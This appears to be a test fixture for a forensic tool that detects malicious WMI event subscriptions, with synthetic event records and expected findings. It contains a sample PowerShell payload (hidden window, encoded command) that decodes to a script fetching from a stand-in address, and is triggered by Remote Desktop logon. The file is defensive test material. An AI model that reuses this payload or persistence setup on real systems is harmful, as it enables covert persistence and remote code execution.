import type { Finding } from '../../src/analytics/index.ts';
import type { CandidateLogon } from '../../src/entities/index.ts';
import type { HuntResult, RecordLine } from '../../src/report/index.ts';
import type { Dossier } from '../../src/subscriptions/index.ts';
import type { Evidence } from '../../src/windows/index.ts';

/** A small hand-made result that has one of everything: what the writers are tested on. */

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const WMI = 'Microsoft-Windows-WMI-Activity/Operational';
const HOST = 'srv-02.corp.example';
const ARCHIVE = 'evidence/SRV-02.zip';
const SID = 'S-1-5-21-1004336348-1177238915-682003330-1147';

interface Draft {
  readonly id: string;
  readonly channel: string;
  readonly eventId: number;
  readonly recordId: number;
  readonly time: string;
  readonly offset: number;
  readonly fields: readonly (readonly [string, string])[];
}

function recordOf(draft: Draft): RecordLine {
  const data: Record<string, string> = Object.create(null);
  for (const [name, value] of draft.fields) data[name] = value;
  return {
    id: draft.id,
    time: draft.time,
    timeRaw: draft.time,
    host: HOST,
    hostRaw: 'SRV-02.corp.example',
    channel: draft.channel,
    provider:
      draft.channel === 'Security' ? 'Microsoft-Windows-Security-Auditing' : draft.channel.replace('/Operational', ''),
    eventId: draft.eventId,
    version: 3,
    recordId: draft.recordId,
    headerRecordId: draft.recordId,
    class: 'live',
    shape: 'evtx',
    sources: [{ file: ARCHIVE, container: [memberOf(draft.channel)], offset: draft.offset, length: 1184 }],
    system: { Level: '4', Keywords: '0x8000000000000000', ProcessID: '2812', ThreadID: '4020', UserID: 'S-1-5-18' },
    data,
  };
}

function memberOf(channel: string): string {
  return `Windows/System32/winevt/Logs/${channel.replace('/', '%4')}.evtx`;
}

function evidenceOf(record: RecordLine): Evidence {
  const source = record.sources[0];
  return {
    file: source?.file ?? ARCHIVE,
    ...(source?.container === undefined ? {} : { container: source.container }),
    channel: record.channel,
    eventId: record.eventId,
    ...(record.recordId === undefined ? {} : { recordId: record.recordId, headerRecordId: record.recordId }),
    ...(record.time === undefined ? {} : { time: record.time }),
    offset: source?.offset ?? 0,
    length: source?.length ?? 0,
    record: record.id,
  };
}

export const QUERY =
  "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 10";
export const PAYLOAD =
  'powershell.exe -NoP -W Hidden -Enc JgAgACQAZQBuAHYAOgBQAHIAbwBnAHIAYQBtAEQAYQB0AGEAXABVAHAAZABTAHYAYwBcAHMAeQBuAGMALgBwAHMAMQA=';
export const DECODED = '& $env:ProgramData\\UpdSvc\\sync.ps1 -From https://203.0.113.24/u';

const logon = recordOf({
  id: 'aaaaaaaaaaaaaaaa',
  channel: 'Security',
  eventId: 4624,
  recordId: 991301,
  time: '2026-03-12T09:44:02.9180123Z',
  offset: 0x19c1000,
  fields: [
    ['TargetUserSid', SID],
    ['TargetUserName', 'svc-deploy'],
    ['TargetDomainName', 'CORP'],
    ['TargetLogonId', '0x1f3a9c'],
    ['LogonType', '3'],
    ['IpAddress', '10.20.4.17'],
    ['IpPort', '50410'],
  ],
});
const filterRecord = recordOf({
  id: 'bbbbbbbbbbbbbbbb',
  channel: SYSMON,
  eventId: 19,
  recordId: 448120,
  time: '2026-03-12T09:44:04.2050000Z',
  offset: 0x11200,
  fields: [
    ['RuleName', '-'],
    ['EventType', 'WmiFilterEvent'],
    ['UtcTime', '2026-03-12 09:44:04.205'],
    ['Operation', 'Created'],
    ['User', 'CORP\\svc-deploy'],
    ['EventNamespace', ' "root\\\\cimv2"'],
    ['Name', ' "UpdSvcSync"'],
    ['Query', ` "${QUERY}"`],
  ],
});
const consumerRecord = recordOf({
  id: 'cccccccccccccccc',
  channel: SYSMON,
  eventId: 20,
  recordId: 448121,
  time: '2026-03-12T09:44:04.3010000Z',
  offset: 0x11ae0,
  fields: [
    ['EventType', 'WmiConsumerEvent'],
    ['Operation', 'Created'],
    ['User', 'CORP\\svc-deploy'],
    ['Name', ' "UpdSvcSync"'],
    ['Type', 'Command Line'],
    ['Destination', ` "${PAYLOAD}"`],
  ],
});
const bindingRecord = recordOf({
  id: 'dddddddddddddddd',
  channel: SYSMON,
  eventId: 21,
  recordId: 448122,
  time: '2026-03-12T09:44:04.3950000Z',
  offset: 0x123a8,
  fields: [
    ['EventType', 'WmiBindingEvent'],
    ['Operation', 'Created'],
    ['User', 'CORP\\svc-deploy'],
    ['Consumer', ' "CommandLineEventConsumer.Name=\\"UpdSvcSync\\""'],
    ['Filter', ' "__EventFilter.Name=\\"UpdSvcSync\\""'],
  ],
});
const registration = recordOf({
  id: 'eeeeeeeeeeeeeeee',
  channel: WMI,
  eventId: 5861,
  recordId: 2207,
  time: '2026-03-12T09:44:04.4120042Z',
  offset: 0x2f40,
  fields: [
    ['Namespace', '//./ROOT/Subscription'],
    ['ESS', 'UpdSvcSync'],
    ['CONSUMER', 'CommandLineEventConsumer="UpdSvcSync"'],
    ['PossibleCause', `Binding EventFilter: instance of __EventFilter { Query = "${QUERY}"; };`],
  ],
});
const child = recordOf({
  id: 'ffffffffffffffff',
  channel: SYSMON,
  eventId: 1,
  recordId: 448390,
  time: '2026-03-12T10:02:17.7020000Z',
  offset: 0x5e910,
  fields: [
    ['UtcTime', '2026-03-12 10:02:17.702'],
    ['ProcessId', '4242'],
    ['Image', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
    ['CommandLine', PAYLOAD],
    ['User', 'NT AUTHORITY\\SYSTEM'],
    ['ParentImage', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'],
    ['ParentProcessId', '3120'],
  ],
});

const inventory = recordOf({
  id: 'gggggggggggggggg',
  channel: WMI,
  eventId: 5861,
  recordId: 161,
  time: '2026-03-11T22:10:00.0000000Z',
  offset: 0x1200,
  fields: [
    ['Namespace', '//./root/subscription'],
    ['CONSUMER', 'NTEventLogEventConsumer="SCM Event Log Consumer"'],
  ],
});

export const RECORDS: readonly RecordLine[] = [
  inventory,
  logon,
  filterRecord,
  consumerRecord,
  bindingRecord,
  registration,
  child,
];

const candidate: CandidateLogon = {
  join: 'J12',
  strength: 'strong',
  account: 'CORP\\svc-deploy',
  address: '10.20.4.17',
  ports: [50410],
  workstation: 'WS-07',
  logonId: '0x1f3a9c',
  time: '2026-03-12T09:44:02.9180123Z',
  evidence: [evidenceOf(logon)],
};

export const PLANTED: Dossier = {
  id: 'x7q2m4kd6tbc3wpa',
  host: HOST,
  namespace: 'root\\subscription',
  namespaceBasis: 'stated',
  filter: {
    name: 'UpdSvcSync',
    query: QUERY,
    language: 'WQL',
    eventNamespace: 'root\\cimv2',
    trigger: {
      family: 'logon',
      code: 'TR2',
      sentence: 'when someone signs in by Remote Desktop, looked for every 10 s',
      names: [],
    },
  },
  consumer: {
    class: 'CommandLineEventConsumer',
    name: 'UpdSvcSync',
    payload: PAYLOAD,
    properties: { Name: 'UpdSvcSync', CommandLineTemplate: PAYLOAD, RunInteractively: 'FALSE' },
    decoded: [
      {
        depth: 1,
        operation: 'powershell -EncodedCommand',
        offset: 35,
        length: 88,
        sha256: '0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0',
        text: DECODED,
      },
    ],
    features: [
      { code: 'P01', points: 25, title: 'encoded command', match: '-Enc JgAgACQAZQBuAHYA' },
      { code: 'P02', points: 5, title: 'hidden window', match: '-W Hidden' },
      { code: 'P03', points: 8, title: 'interpreter', match: 'powershell.exe' },
    ],
    indicators: [
      { kind: 'url', value: 'https://203.0.113.24/u' },
      { kind: 'path', value: '$env:ProgramData\\UpdSvc\\sync.ps1' },
    ],
    creatorSid: SID,
  },
  binding: {
    filterRef: '__EventFilter.Name="UpdSvcSync"',
    consumerRef: 'CommandLineEventConsumer.Name="UpdSvcSync"',
    creatorSid: SID,
    inferred: false,
  },
  creator: { sid: SID, account: 'CORP\\svc-deploy' },
  origin: {
    kind: 'remote',
    strength: 'strong',
    source: { host: 'WS-07', address: '10.20.4.17' },
    account: 'CORP\\svc-deploy',
    candidates: [candidate],
  },
  lifecycle: [
    {
      step: 'created',
      time: '2026-03-12T09:44:04.2050000Z',
      strength: 'witnessed',
      part: 'filter',
      evidence: [evidenceOf(filterRecord)],
    },
    {
      step: 'created',
      time: '2026-03-12T09:44:04.3010000Z',
      strength: 'witnessed',
      part: 'consumer',
      evidence: [evidenceOf(consumerRecord)],
    },
    {
      step: 'created',
      time: '2026-03-12T09:44:04.3950000Z',
      strength: 'witnessed',
      part: 'binding',
      evidence: [evidenceOf(bindingRecord)],
    },
    {
      step: 'registered',
      time: '2026-03-12T09:44:04.4120042Z',
      strength: 'witnessed',
      evidence: [evidenceOf(registration)],
    },
    { step: 'fired', time: '2026-03-12T10:02:17.7020000Z', strength: 'strong', evidence: [evidenceOf(child)] },
  ],
  state: 'armed',
  stateAt: '2026-03-12T10:02:17.7020000Z',
  seenIn: ['sysmon', '5861'],
  otherContents: [],
  inferred: false,
  fingerprint: '8aa3c4ce3ccdfe89f32935d164b3fb04ea01afa7a71f17c5be4f777cb7968cbc',
  loosePrint: '131ebffabe114cdc131ebffabe114cdc131ebffabe114cdc131ebffabe114cdc',
  firstSeen: '2026-03-12T09:44:04.2050000Z',
  lastSeen: '2026-03-12T10:02:17.7020000Z',
  baseline: { known: false, nearest: 'BVTFilter', likeness: 0.21 },
  verdict: {
    level: 'critical',
    score: 98,
    terms: [
      { code: 'BASE', points: 0, text: 'subscription: the sum below does all the work', evidence: [] },
      { code: 'CT2', points: 20, text: 'a command line runs', evidence: [evidenceOf(consumerRecord)] },
      { code: 'TR2', points: 10, text: 'waits for a sign-in', evidence: [evidenceOf(filterRecord)] },
      { code: 'OR1', points: 20, text: 'written from another machine, strong join', evidence: [evidenceOf(logon)] },
      { code: 'P01', points: 25, text: 'encoded command', evidence: [evidenceOf(consumerRecord)] },
      { code: 'P02', points: 5, text: 'hidden window', evidence: [evidenceOf(consumerRecord)] },
      { code: 'P03', points: 8, text: 'interpreter', evidence: [evidenceOf(consumerRecord)] },
      { code: 'LF2', points: 10, text: 'it fired', evidence: [evidenceOf(child)] },
    ],
  },
  notes: ['The decoded script is a file that is not in the evidence: collect it before it changes.'],
  aliases: [],
  evidence: [filterRecord, consumerRecord, bindingRecord, registration, child, logon].map(evidenceOf),
};

export const KNOWN: Dossier = {
  id: 'b7q2m4kd6tbc3wpb',
  host: HOST,
  namespace: 'root\\subscription',
  namespaceBasis: 'stated',
  filter: {
    name: 'SCM Event Log Filter',
    query: 'select * from MSFT_SCMEventLogEvent',
    language: 'WQL',
    eventNamespace: 'root\\cimv2',
    trigger: { family: 'other', code: 'TR9', sentence: 'when MSFT_SCMEventLogEvent is raised', names: [] },
  },
  consumer: {
    class: 'NTEventLogEventConsumer',
    name: 'SCM Event Log Consumer',
    properties: {},
    decoded: [],
    features: [],
    indicators: [],
  },
  binding: { inferred: false },
  creator: { sid: 'S-1-5-32-544' },
  origin: { kind: 'unknown', candidates: [] },
  lifecycle: [
    {
      step: 'registered',
      time: '2026-03-11T22:10:00.0000000Z',
      strength: 'witnessed',
      evidence: [evidenceOf(inventory)],
    },
  ],
  state: 'armed',
  stateAt: '2026-03-11T22:10:00.0000000Z',
  seenIn: ['5861'],
  otherContents: [],
  inferred: false,
  fingerprint: '0000c4ce3ccdfe89f32935d164b3fb04ea01afa7a71f17c5be4f777cb7968cbc',
  firstSeen: '2026-03-11T22:10:00.0000000Z',
  lastSeen: '2026-03-11T22:10:00.0000000Z',
  baseline: { known: true, nearest: 'SCM Event Log Filter', likeness: 1 },
  verdict: {
    level: 'informational',
    score: 0,
    terms: [
      { code: 'BASE', points: 0, text: 'subscription', evidence: [] },
      { code: 'CT6', points: 0, text: 'writes to the event log', evidence: [] },
      { code: 'BN1', points: -100, text: 'exact content of a known one', evidence: [evidenceOf(inventory)] },
    ],
  },
  notes: [],
  aliases: [],
  evidence: [evidenceOf(inventory)],
};

export const CHILD_FINDING: Finding = {
  id: 'p4n7c2vh5rzq3sde',
  analytic: 'C03',
  title: "subscription 'UpdSvcSync' started powershell.exe as NT AUTHORITY\\SYSTEM on SRV-02",
  level: 'high',
  score: 78,
  terms: [
    { code: 'BASE', points: 40, text: 'medium', evidence: [] },
    { code: 'P01', points: 25, text: 'encoded command', evidence: [evidenceOf(child)] },
    { code: 'P02', points: 5, text: 'hidden window', evidence: [evidenceOf(child)] },
    { code: 'P03', points: 8, text: 'interpreter', evidence: [evidenceOf(child)] },
  ],
  scope: 'wmi',
  host: HOST,
  hosts: [HOST],
  accounts: ['NT AUTHORITY\\SYSTEM'],
  subscriptions: [PLANTED.id],
  process: {
    image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    commandLine: PAYLOAD,
    pid: 4242,
    user: 'NT AUTHORITY\\SYSTEM',
    parentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    parentPid: 3120,
  },
  candidates: [],
  attack: [{ new: 'T1546.003', old: ['T1546.003'] }],
  time: '2026-03-12T10:02:17.7020000Z',
  count: 1,
  aliases: [],
  evidence: [evidenceOf(child)],
};

export const RESULT: HuntResult = {
  schemaVersion: 1,
  header: {
    tool: { name: 'triad', version: '0.1.0' },
    options: { hosts: [], minLevel: 'informational', failLevel: 'medium', carve: true, strict: false },
    evidence: [
      {
        name: ARCHIVE,
        bytes: 1_204_553_001,
        sha256: '31e16425ebdb0ffa7197efda438b1dedca151bf05b6b866db155445abedb8dd1',
        mtime: '2026-03-12T11:20:37.0000000Z',
        kind: 'zip',
        records: { live: 2_911_289, afterDamage: 0, swallowed: 0, carved: 17 },
        rejected: 4,
        hosts: [HOST],
        firstRecord: '2026-03-11T22:10:00.0000000Z',
        lastRecord: '2026-03-12T11:19:58.1234567Z',
        members: [
          {
            path: [memberOf(SYSMON)],
            bytes: 68_157_440,
            kind: 'evtx',
            records: { live: 100_000, afterDamage: 0, swallowed: 0, carved: 17 },
            rejected: 4,
          },
        ],
      },
    ],
  },
  run: {
    status: 'ok',
    exit: 1,
    start: '2026-03-12T11:33:27.2010000Z',
    end: '2026-03-12T11:34:09.0010000Z',
    utcOffsetMinutes: 60,
    files: 7,
    records: 2_911_306,
    lostRecords: 4,
    bytes: 2_147_483_648,
    peakRss: 327_155_712,
    argv: ['hunt', 'evidence', '--format', 'html'],
    runtime: 'node 24.15.0',
    os: 'linux',
    arch: 'x64',
  },
  summary: {
    files: 7,
    records: { live: 2_911_289, afterDamage: 0, swallowed: 0, carved: 17 },
    rejected: 4,
    skippedByFilter: 0,
    folded: 12,
    anomalies: { 'TRIAD-E-EVTX-CHUNK-CRC': 5, 'TRIAD-E-EVTX-DIRTY': 2, 'TRIAD-E-EVTX-FORGED-HEADER': 1 },
    coverage: [
      {
        host: HOST,
        channel: SYSMON,
        ids: { '1': 4000, '19': 1, '20': 1, '21': 1 },
        from: '2026-03-11T22:10:00.0000000Z',
        to: '2026-03-12T11:19:58.1234567Z',
      },
      {
        host: HOST,
        channel: 'Security',
        ids: { '4624': 310, '4688': 9000 },
        from: '2026-03-11T22:10:12.0000000Z',
        to: '2026-03-12T11:19:00.0000000Z',
      },
      {
        host: HOST,
        channel: WMI,
        ids: { '5861': 2 },
        from: '2026-03-11T22:10:00.0000000Z',
        to: '2026-03-12T09:44:04.4120042Z',
      },
    ],
    evicted: { evidenceItems: 3 },
    notEvaluated: [{ analytic: 'R01', missing: ['security-4624'] }],
    notRead: [
      {
        kind: '7z',
        count: 2,
        examples: ['evidence/WS-07.7z', 'evidence/old.7z'],
        close: 'unpack it and hunt the folder',
      },
    ],
    leftOut: { subscriptions: 0, findings: 0 },
  },
  subscriptions: [KNOWN, PLANTED],
  findings: [CHILD_FINDING],
  incidents: [],
  gaps: [
    {
      id: 'hhhhhhhhhhhhhhhh',
      host: HOST,
      what: 'the first Security record is of 2026-03-11 22:10',
      so: 'earlier use of an account cannot be seen',
      close: 'collect archived Security logs',
      blocks: [],
    },
    {
      id: 'iiiiiiiiiiiiiiii',
      host: HOST,
      what: 'PowerShell script blocks are not logged',
      so: 'the text of a creating script is not recoverable',
      close: 'turn on script block logging',
      blocks: [],
    },
  ],
  anomalies: [
    ...[1, 2, 3, 4, 5].map((slot) => ({
      code: 'TRIAD-E-EVTX-CHUNK-CRC',
      level: 'error' as const,
      file: ARCHIVE,
      container: [memberOf(SYSMON)],
      offset: 4096 + slot * 65_536,
      message: `Checksum of chunk ${slot} differs: 17 records of it were read, 4 were not.`,
      count: 1,
      lost: 4,
      recovered: 17,
    })),
    {
      code: 'TRIAD-E-EVTX-DIRTY',
      level: 'note',
      file: ARCHIVE,
      container: [memberOf(WMI)],
      message: 'The log was open when it was copied.',
      count: 2,
    },
    {
      code: 'TRIAD-E-EVTX-FORGED-HEADER',
      level: 'warn',
      file: ARCHIVE,
      container: [memberOf(SYSMON)],
      offset: 69_632,
      message:
        'The chunk header says that its last record is 448119, but 17 more follow and their checksums hold: the header was set back.',
      count: 1,
      tamper: true,
    },
  ],
  records: RECORDS,
};
